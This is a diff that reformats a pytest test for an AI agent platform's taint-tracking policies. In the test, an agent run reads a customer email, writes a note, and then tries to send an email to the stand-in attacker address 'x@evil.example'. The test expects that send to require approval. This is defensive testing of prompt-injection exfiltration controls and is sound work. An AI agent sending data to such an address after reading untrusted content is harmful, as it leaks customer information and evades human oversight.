@@ -21,18 +21,28 @@ def tainted_batch(acme, agent_client, django_capture_on_commit_callbacks):
     make_skill("support.write_note", effect="write", adapter="python:test.echo", publish=False)
     make_skill("support.send_email", effect="external", adapter="python:test.echo", publish=False)
     grant(acme, "support.*")
-    published_policy([rule("support-may-write", "allow", 'skill.namespace == "support"')], scope="tenant",
-                     tenant=acme, name="routine allows")
-    platform = published_policy([rule("trusted-notes", "allow", 'skill.name == "support.write_note"')
-                                 | {"override_taint": True}], name="trusted notes")
+    published_policy(
+        [rule("support-may-write", "allow", 'skill.namespace == "support"')],
+        scope="tenant",
+        tenant=acme,
+        name="routine allows",
+    )
+    platform = published_policy(
+        [rule("trusted-notes", "allow", 'skill.name == "support.write_note"') | {"override_taint": True}],
+        name="trusted notes",
+    )
     make_skill("support.publisher", adapter="python:test.echo")  # publishes the snapshot
     run = start_run(agent_client)
     with django_capture_on_commit_callbacks(execute=True):
-        response = post_calls(agent_client, run["run_id"], [
-            call("c1", "support.peek", taint="read a customer email"),
-            call("c2", "support.write_note", {"text": "hi"}),
-            call("c3", "support.send_email", {"to": "x@evil.example"}),
-        ])
+        response = post_calls(
+            agent_client,
+            run["run_id"],
+            [
+                call("c1", "support.peek", taint="read a customer email"),
+                call("c2", "support.write_note", {"text": "hi"}),
+                call("c3", "support.send_email", {"to": "x@evil.example"}),
+            ],
+        )
     assert [r["status"] for r in response.json()["results"]] == ["ok", "ok", "approval_required"]
     trace = Trace.objects.get(run_id=run["run_id"])
     assert Span.objects.filter(trace=trace, call__call_id="c2").exists()
